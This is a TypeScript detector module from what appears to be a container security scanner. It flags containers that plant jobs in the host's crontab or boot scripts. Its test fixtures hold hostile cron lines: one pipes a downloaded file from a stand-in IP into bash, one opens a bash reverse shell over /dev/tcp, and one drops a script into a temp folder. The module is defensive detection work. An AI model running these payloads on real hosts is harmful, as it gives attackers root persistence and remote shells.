import { render, textOf } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { isTemporaryJob, payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords, whenWords } from './wording.ts';

/** A job planted in the host's own schedule. */
export const hostSchedule: Detector = {
  id: 'host-schedule',
  version: 1,
  title: "Adds a job to the host's cron table or boot scripts.",
  attack: ['T1053.003', 'T1611'],
  description: `
A container that is started with a folder of the host mounted in (\`-v /etc:/mnt/etc\`) can write the host's crontab: from
then on the host runs the attacker's line as root, and removing the container changes nothing. This is how the docker123321
images worked. The 5-field and the 6-field form are both taken, wherever they are written.

*Malicious* when the job is known and is a payload (a shell on a socket, a download that is run, a program in a temporary
folder, hidden code). *Suspicious* when the job is not known or ordinary: node agents and installers write such files, too.
`,
  fires: [
    {
      name: 'five fields, a picture piped into bash',
      image: {
        cmd: ['sh', '-c', 'echo "* * * * * curl -s http://203.0.113.147:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab'],
      },
    },
    {
      name: 'six fields, a bash reverse shell',
      image: {
        cmd: [
          'sh',
          '-c',
          `echo '* * * * * root bash -c "bash -i >& /dev/tcp/192.0.2.44/8443 0>&1"' >> /mnt/etc/crontab`,
        ],
      },
    },
    {
      name: 'a script dropped in a folder with an unknown name',
      image: {
        cmd: [
          'sh',
          '-c',
          'r=$(cat /dev/urandom | head -c 6); echo "* * * * * root sh /tmp/tmpfile" > /tmp$r/etc/cron.d/1m',
        ],
      },
    },
    {
      name: "a node agent's own job",
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'echo "0 3 * * * root /opt/agent/rotate" > /host/etc/cron.d/agent'] },
    },
  ],
  silent: [
    {
      name: "the container's own table",
      image: { cmd: ['sh', '-c', 'echo "15 3 * * * /usr/local/bin/backup.sh" > /etc/crontabs/root; exec crond -f'] },
    },
    {
      name: 'an installer that lies there',
      severity: 'note',
      image: {
        files: {
          '/usr/share/rescue/install.sh': {
            content: '#!/bin/sh\nmount "$1" /mnt\necho "$SCHEDULE root /usr/bin/update" >> /mnt/etc/crontab\n',
            mode: 0o755,
          },
        },
      },
    },
  ],
  detect(scene) {
    return effectsOf(scene, 'schedule').flatMap((effect) => {
      const sighting = sightingOf(scene, effect);
      if (!sighting.outside) return [];
      const text = textOf(effect.job);
      const payload = payloadOf(scene, effect.ran);
      const temporary = isTemporaryJob(render(effect.job));
      const hostile = payload !== undefined || temporary;
      const when = whenWords(effect.schedule);
      const what = payload?.what ?? (temporary ? 'a program in a temporary folder' : undefined);
      return findingOf(scene, sighting, {
        threat: hostile ? 'hostile' : 'dual-use',
        title: `Adds a job to the HOST's ${tableWords(render(effect.table))} through ${sighting.outside}${when ? ` that runs ${when}` : ''}${what ? `: ${what}` : ''}`,
        because: hostile
          ? 'A job planted on the host outlives the container and runs as root.'
          : text === undefined
            ? 'What the job will be is not known.'
            : 'The job itself looks ordinary.',
        evidence:
          effect.job.length > 0 ? [{ text: valueWords(effect.job, 1000), where: sighting.where, note: 'the job' }] : [],
        effects: [effect.id],
      });
    });
  },
};

function tableWords(path: string): string {
  if (path.includes('systemd')) return 'services';
  if (path.includes('rc.local') || path.includes('init.d')) return 'boot scripts';
  if (path === 'at') return 'job queue';
  return 'crontab';
}
